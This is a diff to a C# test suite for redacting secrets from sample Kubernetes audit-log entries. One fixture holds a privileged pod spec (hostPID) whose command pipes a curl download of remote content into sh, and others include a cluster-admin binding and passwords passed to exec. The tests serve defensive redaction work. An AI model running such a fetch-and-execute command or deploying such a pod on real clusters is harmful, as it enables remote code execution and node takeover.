@@ -29,8 +29,8 @@ public sealed class RedactionTests
         new() { Verb = "get", Subresource = "exec", Code = 101, RequestUri = $"/api/v1/namespaces/kube-system/pods/x/exec?command=mysql&command=--password%3D{Secret}", Namespace = "kube-system" },
         new() { Resource = "", Verb = "get", RequestUri = $"/api/v1/x?token={Secret}&x=1", User = "system:anonymous", Code = 200 },
         new() { Resource = "secrets", Verb = "list", Namespace = "", Name = "", RequestUri = "/api/v1/secrets", UserAgent = $"tool/1 Authorization: Bearer {Jwt}", Code = 200 },
-        new() { Resource = "pods", Name = $"x token={Secret}", RequestObject = $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b -H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":[{"name":"P","value":"{{{Secret}}}"}]}]}}""" },
-        new() { Resource = "configmaps", RequestObject = $$$"""{"data":{"a":"password={{{Secret}}}"}}""" },
+        new() { Resource = "pods", Name = "x", RequestObject = $$$"""{"spec":{"hostPID":true,"containers":[{"image":"alpine","command":["sh","-c","curl -u a:b -H 'Authorization: Bearer {{{Jwt}}}' http://x | sh"],"env":[{"name":"DB_PASSWORD","value":"a\"{{{Secret}}}"}]}]}}""" },
+        new() { Resource = "configmaps", RequestObject = $$$"""{"data":{"a":"password={{{Secret}}}","api_key":"{{{Secret}}}"}}""" },
         new() { Resource = "clusterrolebindings", Namespace = "", UserAgent = $"tool/1 token={Secret}", RequestObject = $$$"""{"roleRef":{"name":"cluster-admin"},"subjects":[{"name":"password={{{Secret}}}"}]}""" },
     ];
 
